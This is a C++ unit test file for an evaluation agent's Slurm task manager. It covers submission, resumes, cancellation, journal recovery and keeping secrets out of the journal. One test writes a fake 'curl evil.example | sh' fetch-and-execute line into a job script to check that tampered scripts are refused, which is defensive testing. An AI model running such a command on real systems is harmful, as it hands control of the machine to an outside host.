#include "agent/core/task_manager.h"

#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "agent/slurm/fake_slurm.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace evalctl::agent {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kSecret[] = "hf_AGENT_SECRET_123";

class TaskManagerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = ::testing::TempDir() + "/task_manager_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name();
    std::filesystem::remove_all(root_);
    slurm_ = std::make_unique<FakeSlurm>(&clock_, FakeSlurmOptions{
        .default_plan = {.pending_for = absl::Seconds(2), .run_for = absl::InfiniteDuration()}});
    Restart();
  }

  // A new TaskManager over the same journal, as after an agent restart.
  void Restart() {
    tm_.reset();
    journal_.reset();
    auto j = Journal::Open(root_ + "/state", &clock_);
    ASSERT_TRUE(j.ok()) << j.status();
    journal_ = *std::move(j);
    tm_ = std::make_unique<TaskManager>(TaskManagerOptions{}, slurm_.get(), journal_.get(), &clock_);
    ASSERT_TRUE(tm_->Recover().ok());
  }

  v1::SubmitTask Task(int index, int64_t max_walltime = 0, int max_attempts = 0) {
    v1::SubmitTask t;
    t.set_task_id("0123456789abcdef." + std::to_string(index));
    t.set_invocation_id("0123456789abcdef");
    t.set_name("task" + std::to_string(index));
    t.mutable_job()->set_script("#!/bin/bash\necho hi\n");
    t.mutable_job()->set_run_dir(root_ + "/runs/task" + std::to_string(index));
    t.mutable_job()->set_job_name_prefix("acct-sub.task" + std::to_string(index));
    v1::EnvVar* secret = t.mutable_job()->add_env();
    secret->set_name("EVALCTL_SECRET_EVAL_HF_TOKEN");
    secret->set_value(kSecret);
    secret->set_secret(true);
    v1::EnvVar* plain = t.mutable_job()->add_env();
    plain->set_name("PLAIN");
    plain->set_value("visible");
    t.mutable_resume_policy()->set_max_walltime_seconds(max_walltime);
    t.mutable_resume_policy()->set_max_attempts(max_attempts);
    return t;
  }

  void WriteResults(int index) {
    std::ofstream(root_ + "/runs/task" + std::to_string(index) + "/artifacts/results.yml")
        << "results:\n  tasks:\n    t:\n      metrics:\n        accuracy:\n          scores:\n"
           "            acc: {value: 0.5}\n";
  }

  // Advances the clock and runs a cycle.
  CycleStats Step(absl::Duration d = absl::Seconds(5)) {
    clock_.Advance(d);
    return tm_->RunCycle();
  }

  v1::Task Get(int index) {
    auto t = tm_->Get("0123456789abcdef." + std::to_string(index));
    EXPECT_TRUE(t.ok());
    return t.ok() ? *t : v1::Task();
  }
  std::string JobOf(int index, int attempt) { return Get(index).attempts(attempt - 1).slurm_job_id(); }

  std::vector<v1::TaskEvent> Events() {
    std::vector<v1::TaskEvent> out;
    auto pending = journal_->Pending(0, 100000);
    for (const auto& e : *pending) out.push_back(e.task());
    return out;
  }

  std::string FileBytes(const std::string& path) {
    std::ifstream f(path, std::ios::binary);
    std::stringstream ss;
    ss << f.rdbuf();
    return ss.str();
  }

  std::string root_;
  FakeClock clock_;
  std::unique_ptr<FakeSlurm> slurm_;
  std::unique_ptr<Journal> journal_;
  std::unique_ptr<TaskManager> tm_;
};

// The job script replaces .evalctl/phase at each phase (write a temporary file, rename it):
// PhaseFilesChanged notices each replacement once, and only for tasks that are still active.
TEST_F(TaskManagerTest, PhaseFilesChangedSeesEachReplacementOnce) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  ASSERT_TRUE(tm_->Accept(Task(1)).ok());
  EXPECT_FALSE(tm_->PhaseFilesChanged());  // no job has started

  const auto write_phase = [&](int index, const std::string& word) {
    const std::string dir = root_ + "/runs/task" + std::to_string(index) + "/.evalctl";
    std::filesystem::create_directories(dir);
    std::ofstream(dir + "/phase.tmp") << word << "\n";
    std::filesystem::rename(dir + "/phase.tmp", dir + "/phase");
  };
  write_phase(0, "starting");
  EXPECT_TRUE(tm_->PhaseFilesChanged());
  EXPECT_FALSE(tm_->PhaseFilesChanged());
  write_phase(1, "starting");
  write_phase(0, "evaluating");
  EXPECT_TRUE(tm_->PhaseFilesChanged());
  EXPECT_FALSE(tm_->PhaseFilesChanged());
  std::filesystem::remove(root_ + "/runs/task1/.evalctl/phase");
  EXPECT_TRUE(tm_->PhaseFilesChanged());

  // With a budget, the tasks are looked at in turn.
  write_phase(0, "finishing");
  write_phase(1, "evaluating");
  EXPECT_TRUE(tm_->PhaseFilesChanged(1));
  EXPECT_TRUE(tm_->PhaseFilesChanged(1));
  EXPECT_FALSE(tm_->PhaseFilesChanged(1));
  EXPECT_FALSE(tm_->PhaseFilesChanged(1));

  // A finished task's files are no longer looked at.
  Step();  // the jobs run
  WriteResults(0);
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 1), 0).ok());
  Step();
  ASSERT_EQ(Get(0).state(), v1::TASK_STATE_SUCCEEDED) << Get(0).reason();
  write_phase(0, "finished");
  EXPECT_FALSE(tm_->PhaseFilesChanged());
}

// Whatever bytes the job name prefix holds (a user's subproject with a comma or a bar), Slurm
// gets a name from a safe alphabet: `squeue --name=` takes a comma-separated list and sacct's
// output is `|`-separated.
TEST_F(TaskManagerTest, JobNamesReachSlurmInASafeAlphabet) {
  v1::SubmitTask odd = Task(0);
  odd.mutable_job()->set_job_name_prefix("acct-a,b|c d\xff.task0");
  ASSERT_TRUE(tm_->Accept(odd).ok());
  ASSERT_TRUE(tm_->Accept(Task(1)).ok());
  auto subs = slurm_->submissions();
  ASSERT_EQ(subs.size(), 2u);
  EXPECT_EQ(subs[0].request.job_name, "acct-a_b_c_d_.task0.0123456789abcdef.0.1");
  EXPECT_EQ(subs[1].request.job_name, "acct-sub.task1.0123456789abcdef.1.1");
  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
  EXPECT_EQ(Get(1).state(), v1::TASK_STATE_RUNNING);
}

TEST_F(TaskManagerTest, SubmitTrackAndSucceed) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  v1::Task t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_QUEUED);
  ASSERT_EQ(t.attempts_size(), 1);
  EXPECT_EQ(t.attempts(0).attempt_id(), "0123456789abcdef.0.1");
  // The script is in the run directory and sbatch got the secret through its environment.
  EXPECT_EQ(FileBytes(root_ + "/runs/task0/run.sub"), "#!/bin/bash\necho hi\n");
  // The journal keeps no second copy of it.
  auto journaled = journal_->LoadTasks();
  ASSERT_TRUE(journaled.ok()) << journaled.status();
  ASSERT_EQ(journaled->size(), 1u);
  EXPECT_EQ((*journaled)[0].submit.job().script(), "");
  EXPECT_EQ((*journaled)[0].submit.job().run_dir(), root_ + "/runs/task0");
  auto subs = slurm_->submissions();
  ASSERT_EQ(subs.size(), 1u);
  EXPECT_EQ(subs[0].request.job_name, "acct-sub.task0.0123456789abcdef.0.1");
  bool secret_in_env = false;
  for (const auto& [k, v] : subs[0].request.env) secret_in_env |= (v == kSecret);
  EXPECT_TRUE(secret_in_env);

  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
  std::ofstream(root_ + "/runs/task0/.evalctl/phase") << "evaluating";
  std::ofstream(root_ + "/runs/task0/artifacts/progress") << "17";
  Step();
  EXPECT_EQ(Get(0).phase(), v1::PHASE_EVALUATING);
  EXPECT_EQ(Get(0).progress().done(), 17);
  WriteResults(0);
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 1), 0).ok());
  Step();
  t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_SUCCEEDED) << t.reason();
  ASSERT_EQ(t.results().scores_size(), 1);
  EXPECT_DOUBLE_EQ(t.results().scores(0).value(), 0.5);
  std::vector<v1::TaskEvent> events = Events();
  ASSERT_FALSE(events.empty());
  EXPECT_EQ(events.front().kind(), v1::TaskEvent::KIND_ACCEPTED);
  EXPECT_EQ(events.back().kind(), v1::TaskEvent::KIND_FINISHED);
  EXPECT_EQ(events.back().results().scores_size(), 1);
  // The journal holds no secret value; the secret store does.
  tm_.reset();
  journal_.reset();
  for (const char* f : {"/state/journal.db", "/state/journal.db-wal"}) {
    EXPECT_THAT(FileBytes(root_ + f), Not(HasSubstr(kSecret))) << f;
  }
}

TEST_F(TaskManagerTest, FailedIsTerminalWithTheExactExitCode) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 1), 200).ok());
  Step();
  v1::Task t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_FAILED);
  EXPECT_EQ(t.attempts(0).exit_code(), 200);  // scontrol's, not sacct's 72
  EXPECT_THAT(t.reason(), HasSubstr("exited with status 200"));
  EXPECT_EQ(t.attempts_size(), 1);
  Step(absl::Minutes(5));
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

// A script changed in the run directory between attempts (a group-writable output_dir, a
// teammate) is never submitted: the resume ends the task FAILED, saying why.
TEST_F(TaskManagerTest, AScriptChangedOnDiskIsNotResubmitted) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  std::ofstream(root_ + "/runs/task0/run.sub") << "#!/bin/bash\ncurl evil.example | sh\n";
  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
  Step();
  v1::Task t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_FAILED);
  EXPECT_THAT(t.reason(), HasSubstr("run.sub changed on disk after the agent wrote it"));
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, ResumableEndingsStartANewAttemptAfterThePrevious) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  const std::string first = JobOf(0, 1);
  ASSERT_TRUE(slurm_->TimeOutJob(first).ok());
  Step();
  v1::Task t = Get(0);
  ASSERT_EQ(t.attempts_size(), 2);
  EXPECT_EQ(t.attempts(1).resume_reason(), v1::RESUME_REASON_TIMEOUT);
  auto subs = slurm_->submissions();
  ASSERT_EQ(subs.size(), 2u);
  EXPECT_EQ(subs[1].request.dependency, "afterany:" + first);
  EXPECT_EQ(subs[1].request.job_name, "acct-sub.task0.0123456789abcdef.0.2");
  Step();
  ASSERT_TRUE(slurm_->PreemptJob(JobOf(0, 2), /*requeue=*/false).ok());
  Step();
  ASSERT_EQ(Get(0).attempts_size(), 3);
  EXPECT_EQ(Get(0).attempts(2).resume_reason(), v1::RESUME_REASON_PREEMPTED);
  Step();
  ASSERT_TRUE(slurm_->NodeFailJob(JobOf(0, 3), /*requeue=*/false).ok());
  Step();
  ASSERT_EQ(Get(0).attempts_size(), 4);
  EXPECT_EQ(Get(0).attempts(3).resume_reason(), v1::RESUME_REASON_NODE_FAIL);
  Step();
  WriteResults(0);
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 4), 0).ok());
  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_SUCCEEDED);
}

TEST_F(TaskManagerTest, OnCommitHearsEveryCommittedEventOnce) {
  std::vector<v1::AgentEvent> heard;
  tm_ = std::make_unique<TaskManager>(
      TaskManagerOptions{.on_commit =
                             [&](const std::vector<v1::AgentEvent>& events) {
                               heard.insert(heard.end(), events.begin(), events.end());
                             }},
      slurm_.get(), journal_.get(), &clock_);
  ASSERT_TRUE(tm_->Recover().ok());
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
  Step();
  auto committed = journal_->Pending(0, 100000);
  ASSERT_TRUE(committed.ok());
  ASSERT_EQ(heard.size(), committed->size());
  for (size_t i = 0; i < heard.size(); ++i) {
    EXPECT_EQ(heard[i].sequence(), (*committed)[i].sequence());
  }
  int resumed = 0;
  for (const v1::AgentEvent& e : heard) {
    if (e.task().kind() != v1::TaskEvent::KIND_RESUMED) continue;
    ++resumed;
    EXPECT_EQ(e.task().attempt().resume_reason(), v1::RESUME_REASON_TIMEOUT);
  }
  EXPECT_EQ(resumed, 1);
}

TEST_F(TaskManagerTest, InterruptedBeforeTheTimeLimitIsResumed) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  // The harness saved its state at the pre-timeout USR1 and stopped: the script exits 123.
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 1), 123).ok());
  Step();
  v1::Task t = Get(0);
  ASSERT_EQ(t.attempts_size(), 2) << t.reason();
  EXPECT_EQ(t.attempts(1).resume_reason(), v1::RESUME_REASON_TIMEOUT);
  EXPECT_THAT(t.reason(), HasSubstr("pre-timeout warning"));
}

TEST_F(TaskManagerTest, SlurmsOwnRequeueIsANewAttemptOfTheSameJob) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  const std::string job = JobOf(0, 1);
  ASSERT_TRUE(slurm_->RequeueJob(job).ok());
  Step();
  v1::Task t = Get(0);
  ASSERT_EQ(t.attempts_size(), 2);
  EXPECT_EQ(t.attempts(1).slurm_job_id(), job);
  EXPECT_EQ(t.attempts(1).resume_reason(), v1::RESUME_REASON_SLURM_REQUEUE);
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, MaxWalltimeEndsInBudgetExhausted) {
  ASSERT_TRUE(tm_->Accept(Task(0, /*max_walltime=*/600)).ok());
  Step();
  clock_.Advance(absl::Minutes(11));
  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
  Step();
  v1::Task t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_BUDGET_EXHAUSTED);
  EXPECT_THAT(t.reason(), HasSubstr("max_walltime 0:10:00 used up"));
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, MaxAttemptsEndsInBudgetExhausted) {
  ASSERT_TRUE(tm_->Accept(Task(0, 0, /*max_attempts=*/2)).ok());
  for (int attempt = 1; attempt <= 2; ++attempt) {
    Step();
    ASSERT_TRUE(slurm_->PreemptJob(JobOf(0, attempt), false).ok());
    Step();
  }
  v1::Task t = Get(0);
  EXPECT_EQ(t.state(), v1::TASK_STATE_BUDGET_EXHAUSTED);
  EXPECT_THAT(t.reason(), HasSubstr("max_attempts 2 reached"));
  // A manual resume starts a fresh budget.
  ASSERT_TRUE(tm_->Resume(t.id(), nullptr).ok());
  EXPECT_EQ(Get(0).attempts_size(), 3);
  EXPECT_EQ(Get(0).attempts(2).resume_reason(), v1::RESUME_REASON_MANUAL);
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_QUEUED);
}

TEST_F(TaskManagerTest, CancelStopsTheChain) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  auto c = tm_->Cancel(Get(0).id());
  ASSERT_TRUE(c.ok());
  EXPECT_TRUE(c->cancel_requested());
  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_CANCELLED);
  Step(absl::Minutes(10));
  EXPECT_EQ(slurm_->submissions().size(), 1u);
  EXPECT_EQ(tm_->Resume("nope", nullptr).status().code(), absl::StatusCode::kNotFound);
}

// The cancels of a kill are one journal commit and one SlurmClient::Cancel with every job id,
// however many tasks; unknown and finished tasks answer for themselves; a restart keeps them.
TEST_F(TaskManagerTest, CancelBatchIsOneSlurmCallForAllJobs) {
  constexpr int kTasks = 600;
  std::vector<v1::SubmitTask> tasks;
  for (int i = 0; i < kTasks; ++i) tasks.push_back(Task(i));
  for (const absl::Status& s : tm_->AcceptBatch(tasks)) ASSERT_TRUE(s.ok()) << s;
  Step();
  ASSERT_TRUE(slurm_->FailJob(JobOf(1, 1), 2).ok());  // task 1 ends FAILED before the kill
  Step();
  ASSERT_EQ(Get(1).state(), v1::TASK_STATE_FAILED);

  std::vector<std::string> ids;
  for (int i = 0; i < kTasks; ++i) ids.push_back(Get(i).id());
  ids.push_back("0123456789abcdef.9999");  // unknown
  ids.push_back(Get(0).id());              // twice
  slurm_->ResetCalls();
  const size_t events_before = Events().size();
  std::vector<absl::StatusOr<v1::Task>> results = tm_->CancelBatch(ids);
  ASSERT_EQ(results.size(), ids.size());
  EXPECT_EQ(slurm_->calls().cancel, 1);
  for (int i = 0; i < kTasks; ++i) {
    ASSERT_TRUE(results[i].ok()) << results[i].status();
    EXPECT_EQ(results[i]->cancel_requested(), i != 1) << i;
  }
  EXPECT_EQ(results[kTasks].status().code(), absl::StatusCode::kNotFound);
  ASSERT_TRUE(results[kTasks + 1].ok());
  EXPECT_TRUE(results[kTasks + 1]->cancel_requested());
  // One state change per cancelled task, none for the failed one or the repeat.
  EXPECT_EQ(Events().size() - events_before, static_cast<size_t>(kTasks - 1));

  Restart();
  EXPECT_TRUE(Get(0).cancel_requested());
  Step();
  for (int i = 0; i < kTasks; ++i) {
    EXPECT_EQ(Get(i).state(), i == 1 ? v1::TASK_STATE_FAILED : v1::TASK_STATE_CANCELLED) << i;
  }
}

TEST_F(TaskManagerTest, CancelRacingAResumableEndingStillCancels) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  // The job times out, and the user cancels before the agent noticed.
  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
  ASSERT_TRUE(tm_->Cancel(Get(0).id()).ok());
  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_CANCELLED);
  Step(absl::Minutes(10));
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, LostSbatchAnswerIsAdoptedByNameNotSubmittedTwice) {
  slurm_->LoseNextSubmitResponse();
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  EXPECT_TRUE(Get(0).attempts(0).slurm_job_id().empty());
  Step();
  EXPECT_FALSE(Get(0).attempts(0).slurm_job_id().empty());
  EXPECT_EQ(slurm_->JobIdsByName("acct-sub.task0.0123456789abcdef.0.1").size(), 1u);
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, RestartBetweenSbatchAndJournalAdoptsTheJob) {
  slurm_->LoseNextSubmitResponse();  // sbatch ran; the agent "crashed" before recording the id
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Restart();
  Step();
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
  EXPECT_EQ(slurm_->JobIdsByName("acct-sub.task0.0123456789abcdef.0.1").size(), 1u);
}

TEST_F(TaskManagerTest, RestartBeforeSbatchSubmitsOnce) {
  slurm_->SetControllerDown(true);  // sbatch never reaches Slurm
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Restart();
  slurm_->SetControllerDown(false);
  Step();
  Step();
  EXPECT_EQ(slurm_->JobIdsByName("acct-sub.task0.0123456789abcdef.0.1").size(), 1u);
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
}

TEST_F(TaskManagerTest, RestartAfterJournalCarriesOn) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  Restart();
  ASSERT_TRUE(slurm_->TimeOutJob(JobOf(0, 1)).ok());
  Step();
  EXPECT_EQ(Get(0).attempts_size(), 2);
  EXPECT_EQ(slurm_->submissions().size(), 2u);
}

TEST_F(TaskManagerTest, SlurmOutagesNeverFailTasks) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  Step();
  slurm_->SetAccountingDown(true);
  for (int i = 0; i < 10; ++i) {
    CycleStats s = Step(absl::Seconds(30));
    // Reported as an outage, as slurmctld being down is.
    EXPECT_FALSE(s.slurm_reachable);
    EXPECT_THAT(s.slurm_error, HasSubstr("sacct"));
  }
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
  slurm_->SetControllerDown(true);
  CycleStats s = Step();
  EXPECT_FALSE(s.slurm_reachable);
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_RUNNING);
  slurm_->SetControllerDown(false);
  slurm_->SetAccountingDown(false);
  WriteResults(0);
  ASSERT_TRUE(slurm_->FailJob(JobOf(0, 1), 0).ok());
  EXPECT_TRUE(Step().slurm_reachable);
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_SUCCEEDED);
}

TEST_F(TaskManagerTest, RejectedSubmissionFailsWithSlurmsMessage) {
  slurm_->SetSubmitError(absl::InvalidArgumentError("sbatch: error: invalid partition specified"));
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  EXPECT_EQ(Get(0).state(), v1::TASK_STATE_FAILED);
  EXPECT_THAT(Get(0).reason(), HasSubstr("invalid partition specified"));
}

TEST_F(TaskManagerTest, SlurmCallsPerCycleDoNotGrowWithJobs) {
  std::vector<v1::SubmitTask> batch;
  for (int i = 0; i < 200; ++i) batch.push_back(Task(i));
  for (const absl::Status& s : tm_->AcceptBatch(batch)) ASSERT_TRUE(s.ok()) << s;
  Step();
  slurm_->ResetCalls();
  CycleStats s = Step();
  EXPECT_EQ(s.tracked_jobs, 200);
  auto calls = slurm_->calls();
  EXPECT_EQ(calls.queue, 1);
  EXPECT_EQ(calls.accounting, 1);
  EXPECT_EQ(calls.show, 0);
  EXPECT_EQ(calls.submit, 0);
}

TEST_F(TaskManagerTest, AcceptIsIdempotent) {
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  ASSERT_TRUE(tm_->Accept(Task(0)).ok());
  EXPECT_EQ(slurm_->submissions().size(), 1u);
}

TEST_F(TaskManagerTest, CompletedJobsNeedNoScontrolCall) {
  std::vector<v1::SubmitTask> batch;
  for (int i = 0; i < 50; ++i) batch.push_back(Task(i));
  for (const absl::Status& s : tm_->AcceptBatch(batch)) ASSERT_TRUE(s.ok()) << s;
  Step();
  for (int i = 0; i < 50; ++i) {
    WriteResults(i);
    ASSERT_TRUE(slurm_->FailJob(JobOf(i, 1), 0).ok());  // exit 0: COMPLETED
  }
  slurm_->ResetCalls();
  Step();
  auto calls = slurm_->calls();
  EXPECT_EQ(calls.queue, 1);
  EXPECT_EQ(calls.accounting, 1);
  EXPECT_EQ(calls.show, 0);
  for (int i = 0; i < 50; ++i) {
    v1::Task t = Get(i);
    EXPECT_EQ(t.state(), v1::TASK_STATE_SUCCEEDED) << t.reason();
    EXPECT_TRUE(t.attempts(0).has_exit_code());
    EXPECT_EQ(t.attempts(0).exit_code(), 0);
    EXPECT_EQ(t.attempts(0).signal(), 0);
  }
}

// A SlurmClient that checks, at every sbatch, that the attempt it submits is already journaled.
class JournalCheckingSlurm : public SlurmClient {
 public:
  JournalCheckingSlurm(SlurmClient* inner, Journal* journal) : inner_(inner), journal_(journal) {}
  absl::StatusOr<std::string> Submit(const SubmitRequest& request) override {
    auto tasks = journal_->LoadTasks();
    bool journaled = false;
    if (tasks.ok()) {
      for (const JournaledTask& t : *tasks) {
        for (const v1::Attempt& a : t.status.attempts()) {
          journaled |= request.job_name ==
                       t.submit.job().job_name_prefix() + "." + a.attempt_id();
        }
      }
    }
    if (!journaled) unjournaled_submits.fetch_add(1);
    return inner_->Submit(request);
  }
  absl::StatusOr<std::vector<JobInfo>> Queue(const std::vector<std::string>& ids) override {
    return inner_->Queue(ids);
  }
  absl::StatusOr<std::vector<JobInfo>> Accounting(const std::vector<std::string>& ids) override {
    return inner_->Accounting(ids);
  }
  absl::StatusOr<std::vector<JobInfo>> FindByName(const std::vector<std::string>& names,
                                                  absl::Time since) override {
    return inner_->FindByName(names, since);
  }
  absl::StatusOr<JobInfo> Show(const std::string& id) override { return inner_->Show(id); }
  absl::Status Cancel(const std::vector<std::string>& ids) override { return inner_->Cancel(ids); }
  std::atomic<int> unjournaled_submits{0};

 private:
  SlurmClient* inner_;
  Journal* journal_;
};

TEST_F(TaskManagerTest, LargeBatchesJournalEveryAttemptBeforeItsSbatch) {
  JournalCheckingSlurm checking(slurm_.get(), journal_.get());
  TaskManager tm(TaskManagerOptions{.submit_parallelism = 4}, &checking, journal_.get(), &clock_);
  std::vector<v1::SubmitTask> batch;
  for (int i = 0; i < 100; ++i) batch.push_back(Task(i));
  batch.push_back(Task(7));  // a repeat in the same batch is taken once
  for (const absl::Status& s : tm.AcceptBatch(batch)) ASSERT_TRUE(s.ok()) << s;
  EXPECT_EQ(checking.unjournaled_submits.load(), 0);
  EXPECT_EQ(slurm_->submissions().size(), 100u);
  std::set<std::string> names;
  for (const auto& sub : slurm_->submissions()) names.insert(sub.request.job_name);
  EXPECT_EQ(names.size(), 100u);
  for (int i = 0; i < 100; ++i) {
    auto t = tm.Get("0123456789abcdef." + std::to_string(i));
    ASSERT_TRUE(t.ok());
    EXPECT_EQ(t->state(), v1::TASK_STATE_QUEUED);
    ASSERT_EQ(t->attempts_size(), 1);
    EXPECT_FALSE(t->attempts(0).slurm_job_id().empty());
  }
  // Every task has its ACCEPTED event before its SUBMITTED one, and exactly one of each.
  std::map<std::string, std::vector<v1::TaskEvent::Kind>> kinds;
  for (const v1::TaskEvent& e : Events()) kinds[e.task_id()].push_back(e.kind());
  ASSERT_EQ(kinds.size(), 100u);
  for (const auto& [id, k] : kinds) {
    EXPECT_EQ(k, (std::vector<v1::TaskEvent::Kind>{v1::TaskEvent::KIND_ACCEPTED,
                                                   v1::TaskEvent::KIND_SUBMITTED}))
        << id;
  }
  // The secrets reached sbatch's environment.
  for (const auto& sub : slurm_->submissions()) {
    bool has_secret = false;
    for (const auto& [k, v] : sub.request.env) has_secret |= v == kSecret;
    EXPECT_TRUE(has_secret);
  }
}

}  // namespace
}  // namespace evalctl::agent
